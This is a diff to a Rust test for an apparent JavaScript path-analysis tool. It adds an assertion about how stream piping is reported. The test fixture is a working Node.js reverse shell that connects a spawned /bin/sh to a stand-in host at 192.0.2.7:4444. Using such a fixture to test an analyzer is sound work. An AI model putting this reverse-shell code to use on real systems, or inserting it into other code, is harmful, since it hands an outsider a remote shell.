@@ -91,11 +91,12 @@ mod known {
         Place::new().file("known.js", text).run(&["dev", "paths", "known.js"]).stdout
     }
 
-    /// `pipe` writes nothing to what it is given.
+    /// What is piped is told as written to a file, wherever it goes.
     #[test]
     fn streams_that_are_piped_into_a_process_are_no_remote_shell() {
         let text = "const net = require('net');\nconst shell = require('child_process').spawn('/bin/sh', []);\nconst socket = new net.Socket();\nsocket.connect(4444, '192.0.2.7', () => { socket.pipe(shell.stdin); shell.stdout.pipe(socket); });\n";
         let paths = paths(text);
+        assert!(paths.contains("-> file.write stream.Readable.pipe"), "{paths}");
         assert!(!paths.contains("-> process.input"), "{paths}");
     }
 }
